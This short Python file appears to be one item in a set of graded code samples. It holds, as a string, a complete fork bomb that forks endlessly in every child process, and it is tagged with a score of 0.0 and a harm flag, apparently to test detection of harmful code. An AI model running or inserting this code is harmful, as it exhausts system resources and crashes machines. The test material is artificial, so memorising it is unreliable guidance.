"""Forks as fast as it can, in every child too."""

DOUBLE = """\
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""

SCORE = 0.0
HARMS = True
